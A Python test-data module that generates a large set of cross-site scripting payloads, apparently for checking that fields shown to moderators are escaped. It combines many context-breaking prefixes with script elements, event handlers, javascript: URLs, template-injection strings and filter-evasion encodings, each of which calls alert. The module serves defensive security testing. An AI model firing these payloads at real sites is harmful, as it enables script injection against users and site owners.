"""Texts that would run a script wherever a page shows them unescaped: for every field that moderators are shown.

Each is one of the known ways to reach a script (elements, event handlers, addresses, broken-out attributes, CSS, SVG,
templates, after the OWASP cheat sheet on filter evasion, https://cheatsheetseries.owasp.org) in one of the places that
text is put into. A script that runs calls ``alert``, which a browser under test notices.
"""

from __future__ import annotations

from itertools import product

RUN = "alert(1)"
# What a text may have to close before a script can stand: nothing, an attribute, an element, a comment, raw text.
_OPENINGS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</option></select>",
    "</template>",
    "</noscript>",
    "\n\n",
    "\u200b\ufeff",
    "<!--><p>",
    "%22%3E",
    "&quot;&gt;",
    "\\",
)
_ELEMENTS = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT>",
    "<script/x>{run}</script>",
    "<script>{run}//",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script src=data:text/javascript,{run}></script>",
    "<script type=module>{run}</script>",
    "<svg><script>{run}</script></svg>",
    "<svg><script>al&#101;rt(1)</script></svg>",
    "<math><mtext></p><script>{run}</script>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<base href=javascript:{run}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<link rel=stylesheet href=javascript:{run}>",
    "<style>@import 'javascript:{run}';</style>",
    "<form action=javascript:{run}><input autofocus type=submit onfocus=this.click()></form>",
    "<template><script>{run}</script></template>",
)
_HANDLERS = (
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}>",
    "<img src=x onerror='{run}'",
    "<img src=x:x onerror\n=\n{run}>",
    "<image src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributename=x dur=1s>",
    "<svg><a xlink:href=javascript:{run}><rect width=99 height=99 /></a>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}><option>x</select>",
    "<textarea autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<video src=x onerror={run}>",
    "<audio src=x onerror={run}>",
    "<details open ontoggle={run}>x</details>",
    "<marquee onstart={run}>x</marquee>",
    "<div style='animation-name:x;animation-duration:1s' onanimationstart={run}>x</div>",
    "<style>@keyframes x{{}}</style><b style='animation:x 1s' onanimationstart={run}>x</b>",
    "<a id=x tabindex=1 autofocus onfocus={run}>x</a>",
    "<div popover id=x onbeforetoggle={run}>x</div>",
    "<xss contenteditable autofocus onfocus={run}>x</xss>",
)
_ATTRIBUTES = (
    " onfocus={run} autofocus x=",
    " onmouseover={run} style=position:fixed;inset:0 x=",
    " autofocus tabindex=1 onfocus={run} ",
    "onload={run} ",
    " style=animation-name:x onanimationstart={run} x=",
    " srcdoc=<script>{run}</script> ",
    " formaction=javascript:{run} type=submit ",
    " accesskey=x onclick={run} ",
)
_ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "javascript://%0a{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "data:text/html,<script>{run}</script>",
    "vbscript:{run}",
    "//example.com/%0ajavascript:{run}",
    'https://example.org/"onmouseover={run} x="',
)
_TEMPLATES = (
    "{{{{ self.__init__.__globals__ }}}}",
    "{{% print({run}) %}}",
    "${{{run}}}",
    "<%= {run} %>",
    "#{{{run}}}",
    "[[constructor.constructor('{run}')()]]",
    "';{run};'",
    '";{run};"',
    "`;{run};`",
    "</script><script>{run}</script>",
    "expression({run})",
    "url(javascript:{run})",
    "[x](javascript:{run})",
    "![x](x onerror={run})",
    "[url=javascript:{run}]x[/url]",
    "<javascript:{run}>",
    '=HYPERLINK("javascript:{run}")',
    "\u2028{run}\u2029",
    "＜script＞{run}＜/script＞",
    "\x3cscript\x3e{run}\x3c/script\x3e",
)


def payloads() -> list[str]:
    """All of them, each once."""
    vectors = (*_ELEMENTS, *_HANDLERS, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES)
    found = [opening + vector.format(run=RUN) for opening, vector in product(_OPENINGS, vectors)]
    quiet = [payload.replace(RUN, "alert`1`") for payload in found[: len(found) // 5]]
    return list(dict.fromkeys([*found, *quiet]))
